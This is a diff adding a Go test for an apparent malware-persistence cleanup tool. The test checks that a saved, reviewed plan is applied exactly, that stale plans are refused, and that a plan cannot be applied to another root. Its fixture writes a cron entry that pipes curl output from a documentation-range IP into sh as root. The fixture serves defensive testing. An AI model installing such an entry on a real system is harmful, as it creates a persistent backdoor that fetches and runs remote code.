@@ -185,3 +185,50 @@ func TestDefaultRootDryRun(t *testing.T) {
 		}
 	}
 }
+
+// A reviewed plan is applied exactly: an entry planted after the dry run
+// is left (it was not reviewed), and a plan that no longer matches the
+// root is refused before anything changes.
+func TestApplySavedPlan(t *testing.T) {
+	dir := infectedRoot(t)
+	planFile := filepath.Join(t.TempDir(), "plan.json")
+	var out, errb bytes.Buffer
+	if err := run([]string{"-root", dir, "-save-plan", planFile}, &out, &errb); err != nil {
+		t.Fatal(err, errb.String())
+	}
+	if !strings.Contains(out.String(), "plan saved: "+planFile) {
+		t.Errorf("dry run output:\n%s", out.String())
+	}
+	later := filepath.Join(dir, "etc/cron.d/later")
+	if err := os.WriteFile(later, []byte("* * * * * root curl -s http://203.0.113.9/z | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := run([]string{"-plan", planFile}, &out, &errb); err == nil {
+		t.Error("-plan without -apply accepted")
+	}
+	out.Reset()
+	if err := run([]string{"-apply", "-plan", planFile, "-quarantine", t.TempDir(), "-json"}, &out, &errb); err != nil {
+		t.Fatal(err, errb.String())
+	}
+	var res struct {
+		ManifestPath string `json:"manifest_path"`
+		Changes      int    `json:"changes"`
+	}
+	if err := json.Unmarshal(out.Bytes(), &res); err != nil || res.Changes != 1 {
+		t.Fatalf("apply -plan output %q: %v", out.String(), err)
+	}
+	if _, err := os.Stat(later); err != nil {
+		t.Errorf("applied beyond the reviewed plan: %v", err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
+		t.Error("reviewed change not made")
+	}
+	// The same plan again: the crontab is no longer what was reviewed.
+	err := run([]string{"-apply", "-plan", planFile, "-quarantine", t.TempDir()}, &out, &errb)
+	if !errors.Is(err, persist.ErrChanged) {
+		t.Errorf("stale plan: %v", err)
+	}
+	if err := run([]string{"-apply", "-plan", planFile, "-root", t.TempDir()}, &out, &errb); err == nil {
+		t.Error("plan applied to another root")
+	}
+}
